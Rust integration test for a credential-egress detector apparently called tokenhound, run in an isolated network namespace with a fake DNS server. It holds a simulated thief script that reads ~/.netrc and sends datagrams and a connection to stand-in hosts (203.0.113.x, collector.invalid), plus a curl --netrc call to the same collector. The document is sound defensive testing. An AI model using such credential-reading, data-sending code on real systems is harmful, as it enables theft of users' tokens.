//! Where a token's carrier sends to and connects to, in a network of its own: addresses of the documentation's lie on its
//! loopback device, and nothing leaves the machine.

use std::{
    io::Write,
    path::Path,
    process::{Child, Command, Stdio},
};

use tokenhound_tests::{agent::Agent, finding::Finding, process, skip, stage::Stage, store::Store};

use crate::lifecycle::is_known;

/// A network with a name server that knows one name, and somebody who takes what comes. What is started there is told by
/// `$PROGRAM`. All ends with it.
const NETWORK: &str = r#"
exec unshare --net --mount bash -eo pipefail -c '
ip link set lo up
for last in 7 8; do ip addr add 203.0.113.$last/32 dev lo; done
echo "nameserver 127.0.0.1" >$OUT/resolv.conf
echo "hosts: files dns" >$OUT/nsswitch.conf
for name in resolv nsswitch; do mount --bind $OUT/$name.conf /etc/$name.conf; done
mkfifo $OUT/ready
python3 $STAGE/servers.py >$OUT/ready & servers=$!
read -r line <$OUT/ready
status=0; $PROGRAM || status=$?
kill $servers || true; exit $status'
"#;

/// Answers for its name with an IPv4 address alone, for as long as a test may take.
const SERVERS: &str = r#"
import contextlib, select, socket, struct, time
NAMES = {b"\x09collector\x07invalid\x00": "203.0.113.7"}
names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
names.bind(("127.0.0.1", 53))
listeners = [socket.create_server((address, 8443)) for address in NAMES.values()]
print("ready", flush=True)
kept, end = [], time.monotonic() + 600
while time.monotonic() < end:
    ready, _, _ = select.select([names, *listeners], [], [], 1)
    for one in ready:
        if one is not names:
            kept.append(one.accept()[0])
            with contextlib.suppress(OSError):
                kept[-1].sendall(b"HTTP/1.0 204 No Content\r\n\r\n")
                kept[-1].shutdown(socket.SHUT_WR)
            continue
        asked, client = names.recvfrom(512)
        question = asked[12:asked.index(b"\x00", 12) + 5]
        address = NAMES.get(question[:-4].lower())
        found = address is not None and question[-4:-2] == b"\x00\x01"
        answer = b"\xc0\x0c\x00\x01\x00\x01" + struct.pack(">IH", 60, 4) + socket.inet_aton(address) if found else b""
        code = 0x8180 if address else 0x8183
        names.sendto(asked[:2] + struct.pack(">HHHHH", code, 1, int(found), 0, 0) + question + answer, client)
"#;

/// Reads the store; sends datagrams until it is told to go on, or nobody is there any more; then connects by name.
const THIEF: &str = r#"
import os, select, socket, sys
open(os.path.expanduser("~/.netrc")).read()
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while not select.select([sys.stdin], [], [], 0.05)[0]:
    out.sendto(b"made up", ("203.0.113.8", 9999))
if sys.stdin.readline():
    socket.create_connection(("collector.invalid", 8443)).close()
"#;

fn in_network(stage: &Stage, home: &Path, name: &str, program: &str) -> Child {
    let mut command = Command::new("bash");
    command.args(["-c", NETWORK]).env("HOME", home).env("PROGRAM", program).env("STAGE", stage.path(""));
    command.env("OUT", stage.directory(&format!("out/{name}"))).stdin(Stdio::piped()).current_dir("/");
    command.spawn().expect("start a network")
}

fn told<'f>(findings: &'f [Finding], text: &str) -> Option<&'f Finding> {
    findings.iter().find(|finding| finding.detector() == "token-egress" && finding.mentions(text))
}

/// An expected reader, in a network and among mounts that are gone with it. What comes of it would be told before the next
/// thief's read of that store.
fn twin(stage: &Stage, agent: &mut Agent<'_>, home: &Path, store: &Path) {
    let twin = in_network(stage, home, "twin", "curl -sS -m 60 --netrc http://collector.invalid:8443/");
    let ended = twin.wait_with_output().unwrap();
    assert!(ended.status.success(), "{ended:?}");
    agent.provoke(&format!("/dd read {}", store.display()), || {
        let from = format!("if={}", store.display());
        assert_eq!(process::run(Command::new("dd").arg(from).current_dir("/"), b"").code(), 0);
    });
    // Other tests start one as well.
    let found = agent.findings("collector.invalid");
    let of_twin: Vec<_> = found.iter().filter(|one| one.reader().ends_with("/curl")).collect();
    assert!(of_twin.is_empty(), "{of_twin:?}");
}

#[test]
fn datagrams_are_told_and_connections_by_the_name_that_was_asked_for() {
    let tools = ["unshare", "ip", "mount", "mkfifo", "python3", "curl"];
    if !skip::native("what programs send does not depend on the kernel") || !skip::has(&tools) {
        return;
    }
    let stage = Stage::new();
    let ann = stage.directory("homes/ann");
    let store = Store::Netrc.put(&stage, &ann);
    stage.file("servers.py", SERVERS);
    let thief = stage.file("thief.py", THIEF).display().to_string();
    let mut agent = Agent::start(&stage);
    let ended = process::run(Command::new("dash").args(["-c", ":"]).env("HOME", &ann).current_dir("/"), b"");
    assert_eq!(ended.code(), 0, "{}", ended.err());
    agent.process.until("the token", || is_known(&stage, &store).then_some(()));

    let mut thief = in_network(&stage, &ann, "thief", &format!("python3 {thief}"));
    // The hooks come with the first read; until then what it sends is not seen.
    agent.until("what was sent without a connection", |all| told(all, "203.0.113.8:9999").is_some());
    thief.stdin.take().unwrap().write_all(b"go on\n").unwrap();
    agent.until("the connection", |all| told(all, "203.0.113.7:8443").is_some());
    let ended = thief.wait().unwrap();
    assert!(ended.success(), "{ended:?}");

    twin(&stage, &mut agent, &ann, &store);

    let findings = agent.findings("");
    let by_name = told(&findings, "203.0.113.7:8443").unwrap();
    let service = by_name.0.pointer("/unmapped/tokenhound/service").unwrap();
    assert_eq!((&service["name"], &service["name_from"]), (&"collector.invalid".into(), &"dns".into()), "{service}");
    assert!(by_name.mentions("127.0.0.1:53 answered so"), "{}", by_name.0);
    assert_eq!(by_name.severity(), told(&findings, "203.0.113.8:9999").unwrap().severity());
    // Not the name server, and nothing of the twin.
    let known = |finding: &&Finding| finding.mentions("203.0.113.7:8443") || finding.mentions("203.0.113.8:9999");
    let others: Vec<_> = findings.iter().filter(|one| one.detector() == "token-egress" && !known(one)).collect();
    assert!(others.is_empty(), "{others:?}");

    let shown = |format: &str| {
        let mut trace = Command::new(process::tokenhound());
        trace.arg("trace").arg(&store).args(["--format", format, "--state-dir"]).arg(stage.path("state"));
        process::run(&mut trace, b"").out()
    };
    let sent = agent.process.until("both in the history", || {
        let trail: serde_json::Value = serde_json::from_str(&shown("json")).ok()?;
        // The file belongs to more than one store.
        let sent = trail["egress"].as_array()?.iter().filter(|one| one["store"] == "netrc");
        let sent: Vec<_> = sent.cloned().collect();
        (sent.len() == 2).then_some(sent)
    });
    let names: Vec<_> = sent.iter().map(|one| (one["address"].as_str(), one["name"].as_str())).collect();
    assert_eq!(names, [(Some("203.0.113.8"), None), (Some("203.0.113.7"), Some("collector.invalid"))], "{sent:?}");
    for page in [shown("text"), shown("html")] {
        assert!(page.contains("203.0.113.8:9999"), "{page}");
    }
    let _ = agent.stop();
}
